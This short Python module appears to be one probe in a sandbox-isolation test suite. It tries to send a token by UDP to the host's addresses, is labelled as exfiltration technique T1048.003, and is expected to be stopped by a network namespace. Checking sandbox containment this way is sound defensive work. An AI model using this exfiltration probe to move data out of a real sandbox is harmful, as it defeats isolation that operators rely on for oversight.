"""Send by UDP to the host's addresses.

gain: a way out for data
attack: T1048.003
stopped by: network namespace
unconfined: host
seen from outside: yes
also refused by: ECONNREFUSED, ENETUNREACH, EHOSTUNREACH, EADDRNOTAVAIL, EINVAL
"""

import socket

from attacker import each, first, reach


def attempt(world):
    def send(place):
        family = socket.AF_INET6 if ":" in place[0] else socket.AF_INET
        return reach(family, socket.SOCK_DGRAM, tuple(place), world["token"].encode())

    return first(*each(world["udp"], send))
